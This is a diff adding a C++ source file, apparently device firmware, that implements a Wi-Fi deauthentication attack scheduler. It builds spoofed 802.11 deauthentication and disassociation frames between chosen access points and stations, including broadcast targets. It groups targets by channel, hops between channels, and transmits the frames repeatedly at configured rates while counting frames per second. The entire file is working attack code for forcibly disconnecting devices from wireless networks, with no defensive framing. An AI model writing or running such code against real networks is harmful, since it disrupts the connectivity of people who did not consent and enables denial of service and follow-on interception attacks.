@@ -0,0 +1,139 @@
+#include "deauth_scheduler.h"
+#include <algorithm>
+#include <string.h>
+
+static const uint8_t broadcastMac[6] = {0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF};
+
+// Same layout as deauth_frame_default: frame control, duration, destination, source, BSSID,
+// sequence and reason 2 (previous authentication no longer valid)
+static void buildFrame(
+    uint8_t *frame, uint8_t subtype, const uint8_t dst[6], const uint8_t src[6], const uint8_t bssid[6]
+) {
+    frame[0] = subtype;
+    frame[1] = 0x00;
+    frame[2] = 0x3a;
+    frame[3] = 0x01;
+    memcpy(&frame[4], dst, 6);
+    memcpy(&frame[10], src, 6);
+    memcpy(&frame[16], bssid, 6);
+    frame[22] = 0xf0;
+    frame[23] = 0xff;
+    frame[24] = 0x02;
+    frame[25] = 0x00;
+}
+
+size_t DeauthScheduler::addTarget(
+    const uint8_t station[6], const uint8_t bssid[6], uint8_t channel, uint16_t rate
+) {
+    DeauthTarget t;
+    memset(&t, 0, sizeof(t));
+    memcpy(t.station, station, 6);
+    memcpy(t.bssid, bssid, 6);
+    t.channel = channel;
+    t.rate = rate > 0 ? rate : 1;
+    t.period = 1000000UL / t.rate;
+
+    // AP -> station
+    buildFrame(t.frames[t.frameCount++], 0xc0, station, bssid, bssid);
+    buildFrame(t.frames[t.frameCount++], 0xa0, station, bssid, bssid);
+    // station -> AP, only for a real station
+    if (memcmp(station, broadcastMac, 6) != 0) {
+        buildFrame(t.frames[t.frameCount++], 0xc0, bssid, station, bssid);
+        buildFrame(t.frames[t.frameCount++], 0xa0, bssid, station, bssid);
+    }
+
+    // After the last target of the same channel, so the groups stay contiguous
+    auto before = [](uint8_t ch, const DeauthTarget &other) { return ch < other.channel; };
+    auto pos = std::upper_bound(targets.begin(), targets.end(), channel, before);
+    size_t index = pos - targets.begin();
+    targets.insert(pos, t);
+    started = false; // group bounds moved, start over on the next run()
+    return index;
+}
+
+void DeauthScheduler::clear() {
+    targets.clear();
+    started = false;
+}
+
+size_t DeauthScheduler::groups() const {
+    size_t count = 0;
+    for (size_t i = 0; i < targets.size(); i++) {
+        if (i == 0 || targets[i].channel != targets[i - 1].channel) count++;
+    }
+    return count;
+}
+
+uint32_t DeauthScheduler::totalSent() const {
+    uint32_t total = 0;
+    for (const auto &t : targets) total += t.sent;
+    return total;
+}
+
+uint32_t DeauthScheduler::totalFps() const {
+    uint32_t total = 0;
+    for (const auto &t : targets) total += t.fps;
+    return total;
+}
+
+void DeauthScheduler::enterGroup(size_t start, uint32_t nowUs) {
+    groupStart = start;
+    groupEnd = start;
+    while (groupEnd < targets.size() && targets[groupEnd].channel == targets[start].channel) groupEnd++;
+    sink.setChannel(targets[start].channel);
+    groupSince = nowUs;
+    turn = 0;
+    // Time away from the channel is not made up for with a burst
+    for (size_t i = groupStart; i < groupEnd; i++) {
+        if ((int32_t)(nowUs - targets[i].due) > 0) targets[i].due = nowUs;
+    }
+}
+
+void DeauthScheduler::updateFps(uint32_t nowUs) {
+    uint32_t elapsed = nowUs - windowStart;
+    if (elapsed < DEAUTH_FPS_WINDOW_MS * 1000UL) return;
+    for (auto &t : targets) {
+        t.fps = (uint64_t)t.windowSent * 1000000UL / elapsed;
+        t.windowSent = 0;
+    }
+    windowStart = nowUs;
+}
+
+uint16_t DeauthScheduler::run(uint32_t nowUs) {
+    if (targets.empty()) return 0;
+
+    if (!started) {
+        started = true;
+        windowStart = nowUs;
+        for (auto &t : targets) {
+            t.due = nowUs;
+            t.windowSent = 0;
+        }
+        enterGroup(0, nowUs);
+    } else if (groupEnd - groupStart < targets.size() &&
+               nowUs - groupSince >= DEAUTH_CHANNEL_DWELL_MS * 1000UL) {
+        enterGroup(groupEnd < targets.size() ? groupEnd : 0, nowUs);
+    }
+    updateFps(nowUs);
+
+    // One frame at most per target and per call, starting from a different target each time
+    uint16_t sent = 0;
+    size_t count = groupEnd - groupStart;
+    for (size_t k = 0; k < count; k++) {
+        DeauthTarget &t = targets[groupStart + (turn + k) % count];
+        if ((int32_t)(nowUs - t.due) < 0) continue;
+
+        if (sink.transmit(t.frames[t.nextFrame], DEAUTH_FRAME_LEN)) {
+            t.sent++;
+            t.windowSent++;
+            sent++;
+        } else {
+            t.failed++;
+        }
+        t.nextFrame = (t.nextFrame + 1) % t.frameCount;
+        t.due += t.period;
+        if ((int32_t)(nowUs - t.due) >= 0) t.due = nowUs + t.period; // fell behind, no catch-up burst
+    }
+    turn = (turn + 1) % count;
+    return sent;
+}